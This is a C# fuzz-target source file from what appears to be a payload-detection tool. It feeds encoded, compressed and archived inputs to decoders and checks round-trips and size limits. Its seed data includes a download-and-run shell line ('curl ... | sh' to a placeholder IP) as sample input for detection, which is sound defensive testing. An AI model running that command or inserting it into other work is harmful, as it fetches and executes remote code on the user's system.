using ApprovalGuard.Core.Tests.Detection.Payloads;
using ApprovalGuard.Detection.Payloads;
using ApprovalGuard.Detection.Payloads.Decoding;
using ApprovalGuard.Detection.Payloads.Judging;
using ApprovalGuard.Detection.Payloads.Opening;
using ApprovalGuard.Fuzz.Engine;

namespace ApprovalGuard.Fuzz.Targets;

/// <summary>The decoders of payloads, on bytes as they come: digits, escapes, archives, binary formats.</summary>
internal sealed class DecodingTarget : IFuzzTarget
{
    /// <inheritdoc/>
    public string Name => "decoding";

    /// <inheritdoc/>
    public IEnumerable<byte[]> Seeds
    {
        get
        {
            var text = Plain.Bytes("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n");
            byte[][] packed = [Plain.Gzip(text), Plain.Zlib(text), Plain.Deflate(text), Plain.Brotli(text), Plain.Zip("a", text), Tar(text), text];
            return
            [
                .. packed, .. packed.Select(static bytes => Plain.Bytes(Coded.Base64(bytes))), Plain.Bytes(Coded.Hex(text)), Plain.Bytes("\\x41\\u0041\\u{1F600}\\101%41%u0041&#65;&#x41;&amp;\\U0001F600\\uD83D\\uDE00"),
                .. Plain.Binaries.Select(static binary => binary.Bytes), Plain.Bytes("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
            ];
        }
    }

    /// <inheritdoc/>
    public void Run(ReadOnlySpan<byte> input)
    {
        var bytes = input.ToArray();
        RoundTrip(bytes);
        var text = FuzzInput.TextsOf([0, .. bytes], most: 1)[0];
        foreach (var encoding in (DigitEncoding[])[DigitEncoding.Hex, DigitEncoding.Base64, DigitEncoding.Base32])
        {
            if (encoding.IsValid(text))
            {
                BrokenPromiseException.Unless(encoding.Decode(text).Length <= text.Length, "decoding made more of it");
            }
        }

        var buffer = new byte[text.Length];
        Base64Text.Decode(text, buffer);
        Base64Text.Decode(text, buffer.AsSpan(0, Math.Min(buffer.Length, 5)));
        _ = EscapedText.Read(text).AsBytes();
        DecodedText.LooksLikeText(bytes);
        DecodedText.MayBegin(bytes);
        _ = DecodedText.Read(bytes, out _);
        _ = BinaryFormat.Recognise(bytes);
        _ = SerializedObject.Recognise(bytes);
        SerializedObject.CallsOut(bytes);
        _ = SerializedObject.InText(text);
        _ = HiddenUrl.Find(text);
        _ = TextJudge.Of(text);
        Unpack(bytes);
    }

    private static void RoundTrip(byte[] bytes)
    {
        BrokenPromiseException.Unless(DigitEncoding.Base64.Decode(Convert.ToBase64String(bytes)).AsSpan().SequenceEqual(bytes), "base64 does not come back");
        BrokenPromiseException.Unless(DigitEncoding.Hex.Decode(Convert.ToHexString(bytes)).AsSpan().SequenceEqual(bytes), "hex does not come back");
    }

    private static void Unpack(byte[] bytes)
    {
        foreach (var unpack in (Func<byte[], WorkBudget, byte[]?>[])[Inflation.Gzip, Inflation.Zlib, Inflation.Deflate, Inflation.Entry, Inflation.Brotli])
        {
            BrokenPromiseException.Unless(unpack(bytes, new WorkBudget()) is not { Length: > WorkBudget.LargestLayer }, "a layer is larger than any may be");
        }

        BrokenPromiseException.Unless(ZipEntries.Read(bytes, new WorkBudget()).Count() <= WorkBudget.MostEntries, "more entries of a zip than are looked at");
        BrokenPromiseException.Unless(TarEntries.Read(bytes, new WorkBudget()).Count() <= WorkBudget.MostEntries, "more entries of a tar than are looked at");
    }

    private static byte[] Tar(byte[] content)
    {
        using var stream = new MemoryStream();
        using (var writer = new System.Formats.Tar.TarWriter(stream, leaveOpen: true))
        {
            using var data = new MemoryStream(content);
            writer.WriteEntry(new System.Formats.Tar.UstarTarEntry(System.Formats.Tar.TarEntryType.RegularFile, "a") { DataStream = data });
        }

        return stream.ToArray();
    }
}
